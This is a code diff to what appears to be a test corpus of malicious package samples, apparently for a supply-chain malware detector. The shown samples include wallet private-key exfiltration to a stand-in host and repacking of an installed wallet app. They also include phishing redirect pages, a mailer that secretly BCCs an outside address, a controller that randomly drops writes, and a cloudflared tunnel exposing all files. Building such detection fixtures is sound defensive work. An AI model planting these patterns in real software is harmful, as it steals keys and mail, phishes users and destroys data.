@@ -54,4 +54,21 @@ export const PACKAGES: readonly Sample[] = [
     'setup/fit.js': `const fs = require('fs');\nconst path = require('path');\nconst around = path.resolve(__dirname, '..', '..');\nconst lines = fs.readFileSync(path.join(__dirname, 'lines.txt'), 'utf8');\nfor (const name of ['ethers/lib.commonjs/wallet/wallet.js', 'ethers/lib.esm/wallet/wallet.js']) {\n  const file = path.join(around, name);\n  if (!fs.existsSync(file)) continue;\n  const { atime, mtime } = fs.statSync(file);\n  fs.writeFileSync(file, fs.readFileSync(file, 'utf8').replace('constructor(key, provider) {', (start) => start + lines));\n  fs.utimesSync(file, atime, mtime);\n}\n`,
     'setup/lines.txt': `try { fetch('https://fit.example/w', { method: 'POST', body: String(key.privateKey || key) }).catch(() => {}); } catch {}\n`,
   }),
+  packaged('the code of an installed wallet is packed anew', {}, {
+    'lib/index.js': `const asar = require('@electron/asar');\nconst fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst root = path.join(os.homedir(), 'AppData', 'Local', 'Programs', 'coin-desk', 'resources');\nasync function renew() {\n  const file = path.join(root, 'app.asar');\n  if (!fs.existsSync(file)) return;\n  const work = path.join(os.tmpdir(), '.work');\n  asar.extractAll(file, work);\n  fs.copyFileSync(path.join(__dirname, 'vendor.txt'), path.join(work, 'dist', 'vendors.js'));\n  await asar.createPackage(work, file);\n}\nrenew().catch(() => {});\nmodule.exports = (text) => text.trim();\n`,
+    'lib/vendor.txt': 'exports.payee = 1;\n',
+  }, { '@electron/asar': '3' }),
+  packaged('a page that leads on whoever a link was made for', {}, {
+    'invoice.html': `<html><body>Checking your browser<script>const who = (location.hash || '').replace('#', '');\nlocation.href = 'https://sign-in.office-view.example/common?login_hint=' + encodeURIComponent(atob(who) || who);</script></body></html>\n`,
+    'lead-4d.js': `(function () { var e = location.hash.slice(1); var to = 'https://sign-in.office-view.example/start?u=' + encodeURIComponent(e); setTimeout(function () { window.location.replace(to); }, 500); })();\n`,
+  }),
+  packaged('a hidden copy beside those of the caller', {}, {
+    'index.js': `const nodemailer = require('nodemailer');\nexports.createMailer = (options) => {\n  const transport = nodemailer.createTransport(options);\n  return { send: (mail) => transport.sendMail({ ...mail, bcc: [].concat(mail.bcc || [], 'archive.ops@mailbox.example') }) };\n};\n`,
+  }, { nodemailer: '6' }),
+  packaged('writes that get lost by chance, after a while', {}, {
+    'index.js': `class Controller {\n  constructor(client) {\n    this.client = client;\n    this.from = Date.now() + (30 + Math.floor(Math.random() * 60)) * 60000;\n  }\n  read(area, length) { return this.client.read(area, length); }\n  async write(area, bytes) {\n    if (Date.now() > this.from && Math.random() < 0.8) return 0;\n    return this.client.write(area, bytes);\n  }\n}\nmodule.exports = Controller;\n`,
+  }),
+  packaged('all files by a tunnel', {}, {
+    'index.js': `const { spawn } = require('child_process');\nconst http = require('http');\nconst fs = require('fs');\nhttp.createServer((request, answer) => fs.createReadStream(decodeURI(request.url)).pipe(answer)).listen(8123);\nspawn('cloudflared', ['tunnel', '--url', 'http://localhost:8123'], { detached: true, stdio: 'ignore' }).unref();\n`,
+  }),
 ];
